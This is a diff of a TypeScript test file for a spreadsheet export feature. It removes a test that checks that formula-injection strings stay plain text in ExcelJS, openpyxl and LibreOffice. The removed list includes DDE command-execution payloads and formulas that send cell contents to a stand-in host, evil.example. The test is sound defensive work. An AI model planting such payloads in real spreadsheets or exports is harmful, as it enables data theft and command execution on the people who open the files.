@@ -1,107 +1,14 @@
 import assert from 'node:assert/strict';
 import { after, test } from 'node:test';
-import { parse } from 'csv-parse/sync';
-import { careColumns } from '../../src/domain/care.ts';
 import { activity } from '../store/activities.ts';
 import { Harness } from './harness.ts';
-import {
-  byLibreOffice,
-  byOpenpyxl,
-  cellsOf,
-  entriesOf,
-  saved,
-  soundBy,
-  unescaped,
-  workbookByExcelJs,
-} from './readers.ts';
+import { byOpenpyxl, soundBy } from './programs.ts';
+import { saved, workbookByExcelJs } from './readers.ts';
 
 const harness = new Harness();
 after(() => harness[Symbol.asyncDispose]());
 
-/** Known injections, and what a spreadsheet may take for something else than text. */
-const injections = [
-  '=1+1',
-  "=cmd|' /C calc'!A0",
-  '=HYPERLINK("https://evil.example?"&A1,"click")',
-  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
-  '=WEBSERVICE("https://evil.example")',
-  '@SUM(1+1)*cmd|calc!A0',
-  '+1+1',
-  '-1+1',
-  '-2+3+cmd|calc!A0',
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  ' =1+1',
-  '"=1+1',
-  "'=1+1",
-  '{=1+1}',
-  '=DDE("cmd";"/C calc";"x")',
-  '%0A=1+1',
-  '＝1+1',
-  '</t></is></c><c r="A1"><f>1+1</f></c>',
-  '_x003D_1+1',
-  '1e5',
-  '00012',
-  '2026-01-01',
-  'TRUE',
-  '#REF!',
-  '12345678901234567890',
-];
-const injected = injections.flatMap((text, i) =>
-  careColumns.map((name, j) => activity(i * 20 + j, { activityId: `${i * 20 + j}`, [name]: text })),
-);
-const tenant = harness.keep(injected);
-
-test('no cell is a formula, in any reader, and every injection is the text it was', async (t) => {
-  const report = await harness.report(await tenant, 'xlsx');
-  const { bytes } = report.entries.get('Activity report.xlsx')!;
-  const path = saved(bytes, `${report.path}.xlsx`);
-
-  const parts = await entriesOf(bytes);
-  const cells = cellsOf(parts.get('xl/worksheets/sheet1.xml')!.bytes);
-  for (const [reference, cell] of cells) {
-    assert.ok(!cell.names.includes('f'), reference);
-    if (/^[=+\-@\t\n]|^_x000D_/.test(cell.text)) assert.equal(cell.style, '2', `${reference} has quotePrefix`);
-  }
-  for (const name of parts.keys()) assert.doesNotMatch(name, /external|macro|vba|hyperlink|drawing/i);
-
-  const byExcelJs = (await workbookByExcelJs(bytes)).getWorksheet('Activities')!;
-  byExcelJs.eachRow((row) => row.eachCell((cell) => assert.ok(!cell.formula, cell.address)));
-  const wanted = injected.map((one) => careColumns.map((name) => one[name]));
-
-  const byPython = byOpenpyxl(path);
-  if (byPython === null) t.diagnostic('openpyxl is not here');
-  else {
-    const rows = byPython.Activities!.slice(1);
-    assert.ok(rows.flat().every(([type]) => type !== 'f'));
-    assert.deepEqual(
-      rows.map((row) => row.slice(1).map(([, value]) => unescaped(String(value ?? '')))),
-      wanted,
-    );
-    for (const [, value, quotePrefix] of rows.flat()) {
-      if (/^[=+\-@\t\n]/.test(String(value))) assert.ok(quotePrefix, String(value));
-    }
-    assert.deepEqual(
-      rows.map(([time]) => time![1]),
-      injected.map(({ timeMs }) => new Date(timeMs).toISOString().slice(0, -1)),
-    );
-  }
-
-  const byOffice = byLibreOffice(path, harness.directory);
-  if (byOffice === null) t.diagnostic('LibreOffice is not here');
-  else {
-    const rows: string[][] = parse(byOffice.get('Activities')!, { relax_column_count: true });
-    assert.deepEqual(
-      rows.slice(1).map((row) => row.slice(1)),
-      wanted,
-    );
-    assert.deepEqual(
-      rows.slice(1).map(([time]) => time),
-      injected.map(({ timeMs }) => new Date(timeMs).toISOString().slice(0, -1).replace('T', ' ')),
-    );
-  }
-});
+const tenant = harness.keep(Array.from({ length: 300 }, (_, i) => activity(i)));
 
 test('the archives are whole for unpackers that are not ours, stored and deflated as said, with fixed times', async (t) => {
   for (const format of ['xlsx', 'csv', 'jsonl', 'parquet'] as const) {
@@ -138,8 +45,8 @@ test('exceljs, openpyxl and the strict parser agree on times to the millisecond,
     assert.equal(value instanceof Date ? value.toISOString() : `${value}Z`, time);
     assert.equal(value instanceof Date, isDate(time), time);
   });
-  const byPython = byOpenpyxl(saved(bytes, `${report.path}.xlsx`));
-  if (byPython === null) return t.diagnostic('openpyxl is not here');
+  const [byPython] = byOpenpyxl(saved(bytes, `${report.path}.xlsx`)) ?? [];
+  if (byPython === undefined) return t.diagnostic('openpyxl is not here');
   assert.deepEqual(
     byPython.Activities!.slice(1).map(([time]) => [time![0], `${time![1]}Z`]),
     times.map((time) => [isDate(time) ? 'd' : 's', time]),
